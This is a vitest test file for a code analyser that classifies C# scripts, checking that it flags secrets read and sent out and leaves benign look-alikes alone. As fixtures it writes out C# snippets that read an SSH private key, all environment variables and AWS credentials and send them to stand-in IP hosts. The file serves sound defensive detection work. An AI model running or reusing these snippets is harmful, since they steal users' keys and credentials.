import { describe, expect, it } from 'vitest';
import { libLanguage } from '../../../src/analysis/code/scripting/lib-lang.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * C# (file-based apps run with `dotnet run app.cs`, status lines, build tools) read by the library-call
 * model with the JVM languages: file reads (`File.ReadAllText`, a `FileStream` read into a buffer), the
 * environment, `Path.Combine` and the home folder, and what `HttpClient`, `WebClient` and `ClientWebSocket`
 * send. Written as an attacker would spread it: a buffer filled by one statement and sent by another.
 */

const scripting = (code: string) => factsOf('scripting', code);

describe('C# files', () => {
  it('are told by their own words', () => {
    expect(libLanguage('using System;\nusing System.Net.Http;\n\nvar c = new HttpClient();\n')).toBe('jvm');
    expect(libLanguage('#!/usr/bin/env dotnet\n#:package Foo@1.0\nConsole.WriteLine("hi");\n')).toBe('jvm');
    expect(libLanguage('namespace Tools;\n\npublic static class Sync\n{\n}\n')).toBe('jvm');
  });
});

describe('secret reads sent', () => {
  it('an SSH key read through Path.Combine and the home folder, posted with HttpClient', async () => {
    const r = await scripting(
      [
        'using System.Net.Http;',
        'var home = Environment.GetFolderPath(Environment.SpecialFolder.UserProfile);',
        'var key = File.ReadAllText(Path.Combine(home, ".ssh", "id_ed25519"));',
        'using var http = new HttpClient();',
        'var body = new StringContent(key);',
        'await http.PostAsync("http://198.51.100.44:9000/k", body);',
      ].join('\n'),
    );
    expect(ofKind(r, 'read')).toMatchObject([{ secret: 'ssh-key' }]);
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { host: '198.51.100.44' }, data: { secret: 'ssh-key' } },
    ]);
  });

  it('the whole environment sent over a WebSocket', async () => {
    const r = await scripting(
      [
        'using System.Net.WebSockets;',
        'using System.Text;',
        'var all = string.Join("\\n", Environment.GetEnvironmentVariables().Keys);',
        'using var ws = new ClientWebSocket();',
        'await ws.ConnectAsync(new Uri("ws://198.51.100.45:7000/s"), CancellationToken.None);',
        'await ws.SendAsync(Encoding.UTF8.GetBytes(all), WebSocketMessageType.Text, true, CancellationToken.None);',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toMatchObject([{ endpoint: { host: '198.51.100.45' } }]);
    expect(ofKind(r, 'send')[0]!.data.taints).toContain('env');
  });

  it('a file read into a buffer by a FileStream, then the buffer uploaded with WebClient', async () => {
    const r = await scripting(
      [
        'using System.Net;',
        'var path = Environment.GetEnvironmentVariable("HOME") + "/.aws/credentials";',
        'using var fs = new FileStream(path, FileMode.Open, FileAccess.Read);',
        'var buf = new byte[fs.Length];',
        'fs.ReadExactly(buf);',
        'new WebClient().UploadData("http://198.51.100.46/u", buf);',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toMatchObject([
      { endpoint: { host: '198.51.100.46' }, data: { secret: 'cloud-credentials' } },
    ]);
  });
});

describe('quiet look-alikes', () => {
  it('a status line that prints the model and the branch sends nothing', async () => {
    const r = await scripting(
      [
        'using System.Diagnostics;',
        'using System.Text.Json;',
        'var input = JsonDocument.Parse(Console.In.ReadToEnd()).RootElement;',
        'var model = input.GetProperty("model").GetProperty("display_name").GetString();',
        'var git = Process.Start(new ProcessStartInfo("git", "branch --show-current") { RedirectStandardOutput = true })!;',
        'Console.WriteLine($"{model} | {git.StandardOutput.ReadToEnd().Trim()}");',
      ].join('\n'),
    );
    expect(ofKind(r, 'send')).toHaveLength(0);
    expect(ofKind(r, 'read').filter((x) => x.secret !== undefined)).toHaveLength(0);
  });

  it("an API call that sends the tool's own token as a header and a JSON body of counts", async () => {
    const r = await scripting(
      [
        'using System.Net.Http;',
        'var token = Environment.GetEnvironmentVariable("GITHUB_TOKEN");',
        'using var http = new HttpClient();',
        'http.DefaultRequestHeaders.Add("Authorization", "Bearer " + token);',
        'var body = new StringContent("{\\"count\\": 3}");',
        'await http.PostAsync("https://api.github.com/repos/o/r/issues", body);',
      ].join('\n'),
    );
    for (const s of ofKind(r, 'send')) expect(s.data.secret).toBeUndefined();
  });
});
